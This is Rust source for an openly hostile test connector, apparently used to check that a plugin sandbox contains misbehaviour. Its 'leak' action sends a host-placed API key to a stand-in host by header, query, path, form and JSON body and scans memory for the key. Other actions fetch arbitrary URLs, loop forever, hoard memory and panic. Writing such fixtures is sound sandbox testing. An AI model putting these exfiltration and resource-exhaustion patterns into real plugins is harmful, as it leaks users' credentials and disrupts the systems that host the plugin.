//! A guest that tries what a connector must not get away with: leaving for other hosts, getting hold of a
//! secret, never ending, eating memory, breaking.
//!
//! Its credential is a key that the host places; `leak` sends it by reference in every place there is and
//! hands back everything it got to see, with a count of how often the key stands in its own linear memory.

mod memory;

use trunnion_sdk::{auth::Account, prelude::*};

/// The only host the manifest names.
const HOST: &str = "https://api.hostile.example";

#[derive(Serialize, Deserialize, JsonSchema)]
struct Fetch {
    url: String,
}

/// Sends a request anywhere and answers what came back.
fn fetch(ctx: &Context, input: Fetch) -> Result<Value> {
    let answer = ctx.http().get(input.url).auth_connection().send_raw()?;
    Ok(json!({ "status": answer.status, "headers": answer.headers, "body": answer.text() }))
}

#[derive(Serialize, Deserialize, JsonSchema)]
struct Leak {
    /// What to look for in memory, as hex of each byte xor 0x5a, so that the look-up itself does not plant it.
    masked: Vec<String>,
}

/// Tries to get to see the key, and says what it saw.
fn leak(ctx: &Context, input: Leak) -> Result<Value> {
    let key = secret("api_key");
    let http = ctx.http();
    let answers = [
        http.get(format!("{HOST}/header")).auth_connection().header("x-key", key.clone()).send_raw()?,
        http.get(format!("{HOST}/query")).query("key", &key).send_raw()?,
        http.get(format!("{HOST}/path/{key}/end")).send_raw()?,
        http.post(format!("{HOST}/form")).form(&[("key", &key)]).send_raw()?,
        http.post(format!("{HOST}/json")).json_with_secrets(&json!({ "key": key }))?.send_raw()?,
    ];
    let seen: Vec<_> = answers
        .iter()
        .map(|answer| json!({ "status": answer.status, "headers": answer.headers, "body": answer.text() }))
        .collect();
    ctx.log(trunnion_sdk::host::Level::Info, &format!("saw {}", Value::from(seen.clone())));
    let found: Vec<_> = input.masked.iter().map(|masked| memory::count(masked)).collect();
    Ok(json!({ "call": format!("{:?}", ctx.call()), "seen": seen, "found": found }))
}

#[derive(Serialize, Deserialize, JsonSchema)]
struct Nothing {}

/// Never ends.
fn spin(_: &Context, _: Nothing) -> Result<Value> {
    let mut number = 1_u64;
    loop {
        number = std::hint::black_box(number.wrapping_mul(6_364_136_223_846_793_005));
        if number == 0 {
            return Ok(json!(number));
        }
    }
}

/// Takes all the memory there is.
fn hoard(_: &Context, _: Nothing) -> Result<Value> {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    while hoard.len() < 100_000 {
        hoard.push(std::hint::black_box(vec![1; 1024 * 1024]));
    }
    Ok(json!(hoard.len()))
}

/// Breaks.
#[expect(clippy::panic, reason = "breaking is its purpose")]
fn broken(_: &Context, _: Nothing) -> Result<Value> {
    panic!("the hostile guest broke on purpose");
}

fn check(ctx: &Context) -> Result<Account> {
    Ok(Account::new(ctx.parameter("name")?, "Hostile"))
}

trunnion_sdk::connector! {
    id: "hostile",
    title: "Hostile",
    hosts: ["api.hostile.example"],
    connection: Connection::new()
        .parameter(trunnion_sdk::auth::Parameter::identifier("name", "Name"))
        .scheme(
            Scheme::fields("key", "Key")
                .field("api_key", "Key", "Anything")
                .header("x-api-key", secret("api_key")),
        ),
    check: check,
    actions: [
        Action::new("fetch", "Fetch", fetch)
            .safe_to_repeat()
            .sample(r#"{"url":"https://api.hostile.example/"}"#, "{}"),
        Action::new("leak", "Leak", leak).safe_to_repeat().sample(r#"{"masked":[]}"#, "{}"),
        Action::new("spin", "Spin", spin).safe_to_repeat().sample("{}", "{}"),
        Action::new("hoard", "Hoard", hoard).safe_to_repeat().sample("{}", "{}"),
        Action::new("broken", "Broken", broken).safe_to_repeat().sample("{}", "{}"),
    ],
}
